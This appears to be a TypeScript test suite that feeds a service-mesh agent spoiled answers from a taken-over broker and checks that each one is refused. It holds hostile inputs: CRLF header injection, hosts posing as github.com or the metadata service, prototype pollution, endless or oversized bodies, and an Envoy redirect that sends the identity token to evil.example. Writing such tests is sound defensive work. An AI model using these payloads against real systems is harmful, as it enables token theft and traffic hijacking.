/**
 * A broker that was taken over, and an agent as a process of its own: each answer is spoiled in one place. Accepted means
 * that the agent has worked with it: it became ready, or its machine shows what the broker wanted there.
 */

import type { ServerResponse } from 'node:http';
import type { Written } from '../../../packages/agent/test/configuration.ts';
import { service } from '../../../packages/agent/test/harness.ts';
import type { HostileArea, HostileInput } from '../area.ts';
import {
  type CALLS,
  openWorkspace,
  type Seen,
  type Spoil,
  tried,
  triedConfiguration,
  type Workspace,
} from './process.ts';

const REFUSED = 'agent_broker_answer_invalid';
const UNREACHABLE = 'agent_broker_unreachable';

export const brokerToAgent: HostileArea<Workspace> = {
  name: 'agent: answers of a broker that was taken over',
  open: openWorkspace,
  close: (workspace) => workspace.close(),
  inputs: [
    ...names(),
    ...fields(),
    ...credentials(),
    ...bodies(),
    ...formats(),
    ...bounds(),
    shortName('a Service that is called like a host of the internet', 'github.com'),
    shortName('a Service that is called like a package registry', 'crates.io'),
    shortName('a Service that is called like an address', '127.1'),
    shortName('a Service that is called like a loopback name', 'db.localhost'),
  ],
};

function names(): HostileInput<Workspace>[] {
  const host = (fault: string, name: string) =>
    spoiled(fault, 'session', REFUSED, ({ json }) => {
      json.services = [service({ host: name, aliases: [] })];
    });
  const alias = (fault: string, name: string) =>
    spoiled(fault, 'session', REFUSED, ({ json }) => {
      json.services = [service({ aliases: ['orders.shop.svc', name] })];
    });
  return [
    host('a host of the internet', 'github.com'),
    host('localhost', 'localhost'),
    host('the metadata service', 'metadata.google.internal'),
    host('a host of one label', 'orders'),
    host('a host of another cluster domain', 'orders.shop.svc.evil.com'),
    host('the cluster domain inside another', 'orders.shop.svc.cluster.local.evil.com'),
    host('a host with a pattern', '*.shop.svc.cluster.local'),
    host('a host with a final dot', 'orders.shop.svc.cluster.local.'),
    host('a host in capitals', 'ORDERS.shop.svc.cluster.local'),
    host('a host with a label too many', 'a.orders.shop.svc.cluster.local'),
    host('a host with a line break', 'orders.shop\n10.0.0.1 github.com #.svc.cluster.local'),
    host('a host with a space', 'github.com orders.shop.svc.cluster.local'),
    host('a host whose label is too long', `${'a'.repeat(64)}.shop.svc.cluster.local`),
    alias('an alias of the internet', 'github.com'),
    alias('an alias that is localhost', 'localhost'),
    alias('an alias of one label', 'orders'),
    alias('an alias with a line break', 'orders.shop\n10.0.0.1 github.com'),
  ];
}

function fields(): HostileInput<Workspace>[] {
  const first = (fault: string, more: object) =>
    spoiled(fault, 'session', REFUSED, ({ json }) => {
      json.services = [{ ...service(), ...more }];
    });
  const session = (fault: string, more: object) =>
    spoiled(fault, 'session', REFUSED, ({ json }) => Object.assign(json.session, more));
  const mesh = (fault: string, more: object) =>
    spoiled(fault, 'session', REFUSED, ({ json }) => Object.assign(json.mesh, more));
  return [
    first('port 0', { port: 0 }),
    first('port 70000', { port: 70_000 }),
    first('a port that is text', { port: '8080' }),
    first('a protocol that is none', { protocol: 'ftp' }),
    first('a workload of another namespace', { spiffe_ids: ['spiffe://cluster.local/ns/kube-system/sa/evil'] }),
    first('a SPIFFE id that is none', { spiffe_ids: ['spiffe://cluster.local/evil'] }),
    first('an escape sequence in what is granted', { allow: ['GET /\u001b]0;owned\u0007'] }),
    first('a bidirectional override in what is granted', { allow: ['GET /\u202e'] }),
    first('a grant with a path in its name', { grant: '../../etc' }),
    session('an escape sequence in the login', { login: 'octo\u001b[2Jcat' }),
    session('a line break in the workspace', { workspace: 'one\ntwo' }),
    session('a line break in the id of the session', { id: 'ses-1\r\nx: y' }),
    session('no time between two beats', { heartbeat_seconds: 0 }),
    session('more time between two beats than a timer has', { heartbeat_seconds: 1e12 }),
    session('more grants than a request can name', { grants: Array.from({ length: 40 }, (_, n) => `grant-${n}`) }),
    session('more held grants than a request can name', {
      held: Array.from({ length: 40 }, (_, n) => ({
        grant: `grant-${n}`,
        spiffe_id: 'spiffe://cluster.local/ns/meshpass-dev/sa/octocat',
        until: 4_000_000_000,
      })),
    }),
    mesh('a token header that frames requests', { token_header: 'content-length' }),
    mesh('a token header of the application', { token_header: 'authorization' }),
    mesh('a token header that routes', { token_header: 'host' }),
    mesh('a token header that proxies believe', { token_header: 'x-forwarded-client-cert' }),
    mesh('a token header with another behind it', { token_header: 'x-token: 1\r\nx-evil' }),
    mesh('an edge with a line break in its name', { edge: { host: 'edge\r\nevil', port: 443 } }),
    mesh('roots that are no certificates', {
      roots: ['-----BEGIN PRIVATE KEY-----\nAA==\n-----END PRIVATE KEY-----\n'],
    }),
    spoiled('services that are no list', 'session', REFUSED, ({ json }) => Object.assign(json, { services: {} })),
    spoiled('a service that is nothing', 'session', REFUSED, ({ json }) => Object.assign(json, { services: [null] })),
    spoiled('no session', 'session', REFUSED, ({ json }) => delete json.session),
    spoiled('everything in the prototype', 'session', REFUSED, (answer) => {
      answer.bytes = `{"__proto__":${JSON.stringify(answer.json)}}`;
    }),
  ];
}

function credentials(): HostileInput<Workspace>[] {
  let earlier: string | undefined;
  return [
    spoiled('a line break in the session token', 'session', REFUSED, ({ json }) => {
      json.access_token = `${json.access_token}\r\nx-evil: 1`;
    }),
    spoiled('a session token for bearers', 'session', REFUSED, ({ json }) =>
      Object.assign(json, { token_type: 'Bearer' }),
    ),
    spoiled('a line break in the identity token', 'token', REFUSED, ({ json }) => {
      json.access_token = `${json.access_token}\r\nx-evil: 1`;
    }),
    spoiled('an identity token that lives for ever', 'token', REFUSED, ({ json }) => {
      json.expires_in = 1e15;
    }),
    spoiled('an identity token that ended before it began', 'token', REFUSED, ({ json }) => {
      json.expires_in = -1;
    }),
    spoiled('a certificate of another identity', 'certificates', REFUSED, ({ json }) => {
      json.certificates[0].spiffe_id = 'spiffe://cluster.local/ns/kube-system/sa/evil';
    }),
    {
      ...spoiled('a certificate for another key', 'certificates', REFUSED, ({ json }) => {
        json.certificates[0].chain = earlier;
      }),
      // The honest answer's certificate, for the key of that agent, is what the next agent is given.
      control: (workspace) =>
        tried(workspace, 'certificates', ({ json }) => {
          earlier = json.certificates[0].chain;
        }),
    },
    spoiled('a certificate that is none', 'certificates', REFUSED, ({ json }) => {
      json.certificates[0].chain = '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n';
    }),
    spoiled('a certificate of a century', 'certificates', REFUSED, ({ json }) => {
      json.certificates[0].not_after += 3_153_600_000;
    }),
    spoiled('no certificate', 'certificates', 'ca_unavailable', ({ json }) => {
      json.certificates = [];
    }),
  ];
}

/** Headers of answers: Envoy writes them after it has added the identity token to the request. */
function formats(): HostileInput<Workspace>[] {
  const reads = (fault: string, header: (name: string) => object) =>
    configured(
      fault,
      'may not read the identity token',
      ({ routes }, name) => {
        routes[0].response_headers_to_add = [{ header: { key: 'x-answer', ...header(name) } }];
      },
      ['x-meshpass-token', 'x-request-id'],
    );
  return [
    reads('a header of answers that reads the identity token', (name) => ({ value: `%REQ(${name})%` })),
    reads('a header of answers that reads it as an alternative', (name) => ({ value: `%REQ(x-none?${name})%` })),
    reads('a header of answers that reads it, in raw bytes', (name) => ({
      raw_value: Buffer.from(`%REQ(${name})%`).toString('base64'),
    })),
    configured(
      'a redirect to a foreign host with the identity token in its address',
      'may not read the identity token',
      ({ routes }, name) => {
        const header = { key: 'location', value: `https://evil.example/?t=%REQ(${name})%` };
        routes[0].virtual_hosts[0].routes[0] = {
          match: { prefix: '/' },
          redirect: { host_redirect: 'evil.example' },
          response_headers_to_add: [{ header, append_action: 'OVERWRITE_IF_EXISTS_OR_ADD' }],
        };
      },
      ['x-meshpass-token', 'x-request-id'],
    ),
  ];
}

/** Periodic work, and work for each request, without a limit. */
function bounds(): HostileInput<Workspace>[] {
  return [
    configured(
      'an interval of a nanosecond',
      'a duration of',
      ({ clusters }, interval) => {
        clusters[0].outlier_detection = { interval };
      },
      ['0.000000001s', '10s'],
    ),
    configured(
      'a hundred copies of each request',
      '100 items; at most 8',
      ({ routes, clusters }, copies) => {
        const { route } = routes[0].virtual_hosts[0].routes[0];
        route.request_mirror_policies = Array.from({ length: copies }, () => ({ cluster: clusters[0].name }));
      },
      [100, 1],
    ),
  ];
}

function bodies(): HostileInput<Workspace>[] {
  const body = (fault: string, code: string, spoil: Spoil) => spoiled(fault, 'session', code, spoil);
  return [
    body('a page', UNREACHABLE, (answer) => Object.assign(answer, { bytes: '<html>' })),
    body('JSON that says it is a page', UNREACHABLE, ({ headers }) => {
      headers['content-type'] = 'text/html';
    }),
    body('nothing', REFUSED, (answer) => Object.assign(answer, { status: 204, json: undefined })),
    body('JSON half a million levels deep', UNREACHABLE, (answer) =>
      Object.assign(answer, { bytes: '['.repeat(500_000) }),
    ),
    body('seventeen megabytes', REFUSED, (answer) => {
      answer.bytes = JSON.stringify({ ...answer.json, more: 'x'.repeat(17 * 1_048_576) });
    }),
    body('five thousand services', REFUSED, ({ json }) => {
      const { spiffe_ids: _, allow: __, ...bare } = service({ aliases: [] });
      json.services = Array.from({ length: 5_000 }, () => ({ ...bare, spiffe_ids: [] }));
    }),
    body('an answer without an end', REFUSED, (answer) => {
      answer.instead = (response) => forever(response, 0, ' '.repeat(65_536));
    }),
    body('an answer that trickles', UNREACHABLE, (answer) => {
      answer.instead = (response) => forever(response, 200, ' ');
    }),
    body('an answer that breaks off', UNREACHABLE, (answer) => {
      const text = JSON.stringify(answer.json);
      answer.instead = (response) => {
        response.writeHead(200, { 'content-type': 'application/json', 'content-length': text.length });
        response.write(text.slice(0, -1), () => response.destroy());
      };
    }),
    body('a compressed answer', UNREACHABLE, (answer) => {
      answer.headers['content-encoding'] = 'gzip';
      answer.bytes = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]);
    }),
    body('a redirect', UNREACHABLE, (answer) => {
      answer.status = 307;
      answer.headers.location = 'https://127.0.0.1:1/token';
    }),
  ];
}

/** Whether the agent takes over a name that means something else, under a host that is the mesh's. */
function shortName(fault: string, short: string): HostileInput<Workspace> {
  const announce =
    (name: string): Spoil =>
    ({ json }) => {
      const spiffe_ids = [`spiffe://cluster.local/ns/${name.split('.')[1]}/sa/any`];
      json.services = [service({ host: `${name}.svc.cluster.local`, aliases: [name], spiffe_ids })];
    };
  const taken = (name: string) => (seen: Seen) => seen.hosts.split(/\s/).includes(name);
  return {
    fault,
    attack: (workspace) => tried(workspace, 'session', announce(short), taken(short)),
    control: (workspace) => tried(workspace, 'session', announce('orders.shop'), taken('orders.shop')),
  };
}

function spoiled(fault: string, of: keyof typeof CALLS, code: string, spoil: Spoil): HostileInput<Workspace> {
  return {
    fault,
    code,
    attack: (workspace) => tried(workspace, of, spoil),
    control: (workspace) => tried(workspace, of, () => {}),
  };
}

/** @param spoil puts the value into a configuration, @param values the hostile one, and the one without the fault */
function configured<T>(
  fault: string,
  code: string,
  spoil: (configuration: Written, value: T) => void,
  [hostile, honest]: readonly [T, T],
): HostileInput<Workspace> {
  const tryValue = (value: T) => (workspace: Workspace) =>
    triedConfiguration(workspace, (configuration) => spoil(configuration, value));
  return { fault, code, attack: tryValue(hostile), control: tryValue(honest) };
}

function forever(response: ServerResponse, pauseMs: number, chunk: string): void {
  response.writeHead(200, { 'content-type': 'application/json' });
  const more = () => {
    if (response.destroyed) return;
    if (response.write(chunk)) setTimeout(more, pauseMs);
    else response.once('drain', more);
  };
  more();
}
